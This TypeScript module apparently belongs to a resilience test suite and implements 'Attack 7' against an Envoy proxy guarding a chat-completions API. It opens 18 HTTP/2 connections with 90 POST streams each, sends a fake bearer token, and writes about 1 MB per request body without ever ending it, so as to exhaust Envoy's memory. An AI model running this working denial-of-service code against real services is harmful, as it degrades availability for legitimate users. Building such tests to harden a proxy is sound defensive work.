/**
 * Attack 7: request bodies that are never finished, with a credential that proves nothing: 90 on each of 18
 * connections.
 */

import type { ClientHttp2Stream } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';
import { ATTACKER_ADDRESS, type Attack, count, FULL_PACE, type Tally } from '../attack.ts';
import { Connection, type Edge } from '../connection.ts';

/** About 16 reach Envoy's heap limit. */
const CONNECTIONS = 18;
const STREAMS_PER_CONNECTION = 90;
/** Less than Envoy inspects, so that it waits for the rest. */
const SENT_BYTES = 1_048_000;
const PIECE = Buffer.alloc(65_536, 0x20);
/**
 * The connections come one after the other, so that the innocents feel memory and not a burst of handshakes and copies.
 */
const CONNECT_EVERY_MS = FULL_PACE ? 250 : 900;
const REOPEN_EVERY_MS = FULL_PACE ? 1000 : CONNECT_EVERY_MS;
/** The maximum number of streams, including the replacements of those that Envoy ended. */
const MAX_STREAMS = 10_000;

export const unfinishedBodies: Attack = {
  number: 7,
  title: 'unfinished request bodies',
  mayFail: 0.001,
  async run({ edge }, _ammunition, untilMs) {
    const tally: Tally = {};
    const holders: Holder[] = [];
    for (let turn = 0; Date.now() < untilMs; turn++) {
      if (holders.length < CONNECTIONS) holders.push(new Holder(edge, tally));
      const next = turn % CONNECTIONS;
      for (const holder of FULL_PACE ? holders : holders.slice(next, next + 1)) holder.fill();
      await sleep(holders.length < CONNECTIONS ? CONNECT_EVERY_MS : REOPEN_EVERY_MS);
    }
    count(
      tally,
      'open at the end',
      holders.reduce((sum, { open }) => sum + open, 0),
    );
    for (const holder of holders) holder.close();
    return tally;
  },
};

/** One connection with its unfinished requests. */
class Holder {
  readonly #connection: Connection;
  readonly #tally: Tally;
  open = 0;

  constructor(edge: Edge, tally: Tally) {
    this.#connection = new Connection(edge, ATTACKER_ADDRESS);
    this.#tally = tally;
  }

  fill(): void {
    while (this.open < STREAMS_PER_CONNECTION && (this.#tally['streams'] ?? 0) < MAX_STREAMS) this.#begin();
  }

  close(): void {
    this.#connection.close();
  }

  #begin(): void {
    this.open += 1;
    count(this.#tally, 'streams');
    const headers = { 'content-type': 'application/json', authorization: 'Bearer x' };
    const stream = this.#connection.open({ method: 'POST', path: '/v1/chat/completions', headers });
    let status = 'reset';
    stream.once('response', (headers) => {
      status = String(headers[':status']);
    });
    stream.resume();
    stream.once('error', () => undefined);
    stream.once('close', () => {
      this.open -= 1;
      count(this.#tally, `ended: ${status}`);
    });
    pour(stream);
  }
}

/** Writes as fast as Envoy takes it, and never the end. */
function pour(stream: ClientHttp2Stream): void {
  let sent = 0;
  const goOn = (): void => {
    while (sent < SENT_BYTES && !stream.destroyed) {
      const piece = PIECE.subarray(0, Math.min(PIECE.length, SENT_BYTES - sent));
      sent += piece.length;
      if (!stream.write(piece)) return;
    }
  };
  stream.on('drain', goOn);
  goOn();
}
